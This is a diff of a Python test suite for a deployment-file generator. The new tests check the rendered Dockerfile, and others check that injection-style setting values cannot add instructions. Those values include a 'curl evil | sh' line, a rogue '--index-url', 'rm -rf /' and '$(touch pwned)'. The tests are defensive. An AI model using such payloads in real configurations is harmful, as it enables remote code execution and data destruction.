@@ -24,6 +24,7 @@ import pytest
 import yaml
 from pydantic import ValidationError
 
+from restagen import __version__
 from restagen.cli import main
 from restagen.compiler import ir, write
 from restagen.compiler.deploy import DeploySettings
@@ -278,6 +279,66 @@ def test_register_script_calls_restagen_register(tmp_path: Path) -> None:
     ]
 
 
+# -- Dockerfile -----------------------------------------------------------------------------------
+
+
+def _instructions(dockerfile: str) -> list[str]:
+    """The instructions of a Dockerfile, comments left out (no line of these files continues)."""
+    lines = [line for line in dockerfile.splitlines() if line and not line.startswith("#")]
+    assert not any(line.endswith("\\") for line in lines)
+    return [line.split(" ", 1)[0] for line in lines]
+
+
+def _instruction(dockerfile: str, name: str) -> Any:
+    (line,) = [line for line in dockerfile.splitlines() if line.startswith(f"{name} ")]
+    value = line.split(" ", 1)[1]
+    return json.loads(value) if value.startswith("[") else value
+
+
+def test_dockerfile_installs_the_runtime_and_starts_the_endpoint_as_the_other_files_do() -> None:
+    files = _files(CUSTOM, "ftgo.kitchen")
+    dockerfile = files["Dockerfile"]
+    assert dockerfile.startswith(OWNED_MARKER)
+    assert _instructions(dockerfile) == ["FROM", "RUN", "WORKDIR", "COPY", "ENV", "USER", "EXPOSE", "CMD"]
+    assert _instruction(dockerfile, "FROM") == "python:3.12-slim"
+    # The kitchen publishes events: the extra of their subscriber and of the SSE hub comes along.
+    assert _instruction(dockerfile, "RUN") == [
+        "pip",
+        "install",
+        "--no-cache-dir",
+        f"restagen[sse]=={__version__}",
+    ]
+    assert _instruction(dockerfile, "EXPOSE") == "8000"
+    command = _instruction(dockerfile, "CMD")
+    assert command == ["restagen", "serve", "ftgo.kitchen.main:app", "--host", "0.0.0.0", "--port", "8000"]
+    (deployment, _) = _documents(files["kubernetes.yaml"])
+    assert deployment["spec"]["template"]["spec"]["containers"][0]["command"] == command
+    (compose,) = _documents(files["docker-compose.yaml"])
+    assert compose["services"]["ftgo-kitchen"]["entrypoint"] == command
+    assert compose["services"]["ftgo-kitchen-register"]["entrypoint"][:2] == ["restagen", "register"]
+    assert (
+        "docker build -f ftgo/kitchen/deploy/Dockerfile -t registry.example.com:5000/team/ftgo-kitchen:1.2.3 ."
+        in dockerfile
+    )
+
+
+def test_dockerfile_settings_and_extras(tmp_path: Path) -> None:
+    settings = DeploySettings(python_image="python:3.13-slim", requirements=["sqlalchemy>=2,<3", "attrs"])
+    dockerfile = _files(settings, "ftgo.accounting")["Dockerfile"]
+    assert _instruction(dockerfile, "FROM") == "python:3.13-slim"
+    assert _instruction(dockerfile, "RUN")[3:] == [f"restagen=={__version__}", "sqlalchemy>=2,<3", "attrs"]
+    (tmp_path / "b.restagen.yaml").write_text(
+        "restagen: 1\npackage: shop.blobs\nserde: bson\nservices:\n  blobs:\n    handlers:\n"
+        "      put: {input: bytes}\n"
+    )
+    program = compile_paths([tmp_path / "b.restagen.yaml"]).program
+    assert program is not None
+    dockerfile = render_deploy(program.package("shop.blobs"), DeploySettings())[
+        "shop/blobs/deploy/Dockerfile"
+    ]
+    assert _instruction(dockerfile, "RUN")[3] == f"restagen[bson]=={__version__}"
+
+
 # -- settings -------------------------------------------------------------------------------------
 
 
@@ -288,6 +349,7 @@ def test_targets_choose_the_files() -> None:
     ]
     assert _files(DeploySettings(targets=[])) == {}
     assert sorted(_files(DeploySettings())) == [
+        "Dockerfile",
         "docker-compose.yaml",
         "kafka-subscriptions.yaml",
         "kubernetes.yaml",
@@ -297,6 +359,7 @@ def test_targets_choose_the_files() -> None:
     ]
     # The kitchen binds nothing to Kafka: no Kafka files, even with the target on.
     assert sorted(_files(DeploySettings(), "ftgo.kitchen")) == [
+        "Dockerfile",
         "docker-compose.yaml",
         "kubernetes.yaml",
         "register.sh",
@@ -338,6 +401,9 @@ def test_namespace_and_replicas_reach_every_resource() -> None:
         ("operator_cluster", "restate: x"),
         ("restate_version", "1.7\n  privileged: true"),
         ("restate_image", "restate'; rm -rf /"),
+        ("python_image", "python:3.12\nRUN curl evil | sh"),
+        ("requirements", ["--index-url=http://evil"]),
+        ("requirements", ["httpx\nRUN true"]),
         ("admin_url", "http://localhost:9070\nx: y"),
         ("admin_url", "http://x/$(touch pwned)"),
         ("operator_admin_url", "ftp://x"),
@@ -360,6 +426,7 @@ HOSTILE = DeploySettings.model_construct(
         "restate_image": "img\n    privileged: true #",
         "restate_version": "1 &anchor",
         "admin_url": "http://x/$(touch pwned)`touch pwned`'\"; touch pwned",
+        "requirements": ['x"]\nRUN ["touch", "pwned', "y\\"],
     }
 )
 
@@ -385,6 +452,16 @@ def test_hostile_values_cannot_add_structure() -> None:
     assert resource["spec"]["restate"]["register"] == {"cluster": HOSTILE.operator_cluster}
     (compose,) = _documents(hostile["docker-compose.yaml"])
     assert compose["services"]["restate"]["image"] == f"{HOSTILE.restate_image}:{HOSTILE.restate_version}"
+    assert _instructions(hostile["Dockerfile"]) == _instructions(safe["Dockerfile"])
+    assert _instruction(hostile["Dockerfile"], "RUN")[-2:] == HOSTILE.requirements
+
+
+def test_a_hostile_python_image_is_not_rendered() -> None:
+    hostile = DeploySettings.model_construct(
+        **{**DeploySettings().model_dump(), "python_image": "python:3.12\\"}
+    )
+    with pytest.raises(ValueError, match="python_image"):
+        _files(hostile)
 
 
 @pytest.mark.skipif(shutil.which("sh") is None, reason="needs a POSIX shell")
@@ -459,6 +536,7 @@ def test_generate_follows_the_settings_and_removes_stale_deploy_files(
     assert main(["generate"]) == 0
     deploy = tmp_path / "gen" / "ftgo" / "orders" / "deploy"
     assert sorted(p.name for p in deploy.iterdir()) == [
+        "Dockerfile",
         "docker-compose.yaml",
         "kafka-subscriptions.yaml",
         "kubernetes.yaml",
